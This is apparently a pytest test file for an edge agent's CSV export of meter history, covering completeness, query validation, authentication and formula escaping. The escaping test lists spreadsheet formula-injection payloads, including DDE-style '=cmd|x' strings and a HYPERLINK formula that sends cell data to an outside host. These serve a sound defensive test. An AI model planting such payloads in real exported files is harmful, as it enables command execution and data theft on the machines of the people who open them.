"""The local history as a file: every sample once, however many there are."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from edge_agent.history import Envelope, StoredPoint
from edge_agent.history.base import StoredSample
from edge_agent.localweb.samples_file import row
from edge_agent.model import PointKey, Quality

NOW = 1_800_000_000_000
COUNT = 20_000
POWER, NAME = PointKey("meter", "power"), PointKey("meter", "name")


class Stored:
    """Many samples at uneven times: most of them in the last tenth of the range."""

    def __init__(self) -> None:
        times = [at * 9000 for at in range(COUNT // 10)] + [
            COUNT * 900 + at * 100 for at in range(COUNT * 9 // 10)
        ]
        self.samples = [StoredSample(POWER, NOW + t_ms, at, 0) for at, t_ms in enumerate(times)]
        self.named = [
            StoredSample(NAME, NOW, 'a,"b"', 0),
            StoredSample(NAME, NOW + 1, None, Quality.DEVICE_OFFLINE),
        ]

    async def points(self) -> list[StoredPoint]:
        last = self.samples[-1].t_ms
        return [
            StoredPoint("meter", "power", NOW, last, True),
            StoredPoint("meter", "name", NOW, NOW + 1, True),
        ]

    async def series(self, key: PointKey, from_ms: int, to_ms: int, max_values: int) -> Envelope:
        envelope = Envelope(from_ms, to_ms, max_values)
        envelope.take(
            one for one in (self.samples if key == POWER else self.named) if from_ms <= one.t_ms <= to_ms
        )
        return envelope


@pytest.fixture
def stored_history() -> Stored:
    return Stored()


async def rows(page: Any, query: str) -> list[list[str]]:
    reply = await page.client.get(f"/api/history/samples.csv?{query}")
    assert (reply.status, reply.content_type) == (200, "text/csv")
    assert "default-src 'none'" in reply.headers["Content-Security-Policy"]
    text = (await reply.read()).decode("utf-8-sig")
    return list(csv.reader(text.splitlines()))


async def test_no_sample_is_left_out_and_none_comes_twice(page: Any, stored_history: Stored) -> None:
    assert await page.sign_in() == 200
    head, *found = await rows(page, "point=meter.power&point=meter.name")
    assert head == ["time", "slave", "point", "value", "quality"]
    assert [int(one[3]) for one in found[:COUNT]] == list(range(COUNT))
    assert found[0] == ["2027-01-15T08:00:00.000+00:00", "meter", "power", "0", "good"]
    assert [one[3:] for one in found[COUNT:]] == [['a,"b"', "good"], ["", "device_offline"]]
    part = await rows(page, f"point=meter.power&from_ms={NOW + 9000}&to_ms={NOW + 18000}")
    assert [one[3] for one in part[1:]] == ["1", "2"]
    assert len(await rows(page, f"point=meter.power&from_ms={NOW * 2}")) == 1


async def test_questions_that_make_no_sense(page: Any) -> None:
    assert (await page.client.get("/api/history/samples.csv?point=meter.power")).status == 401
    assert await page.sign_in() == 200
    for query in (
        "",
        "point=meter.other",
        "point=meter.power&from_ms=x",
        "point=meter.power&from_ms=9&to_ms=8",
    ):
        assert (await page.client.get(f"/api/history/samples.csv?{query}")).status == 400, query


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+cmd|x",
        "@SUM(1,1)",
        "\t=1",
        "\r=1+1",
        "\n=1",
        "=cmd|x,1",
        '=HYPERLINK("http://e/?"&A1,"x")',
    ],
)
def test_a_text_is_no_formula(text: str) -> None:
    [found] = csv.reader(io.StringIO(row(StoredSample(NAME, NOW, text, 0)), newline=""))
    assert found[3] == f"'{text}"


@pytest.mark.parametrize("value", [-1.5, "-1.5", "-40", "a=b", "plain"])
def test_numbers_and_plain_texts_stay_as_they_are(value: Any) -> None:
    assert row(StoredSample(POWER, NOW, value, 0)).split(",")[3] == str(value)
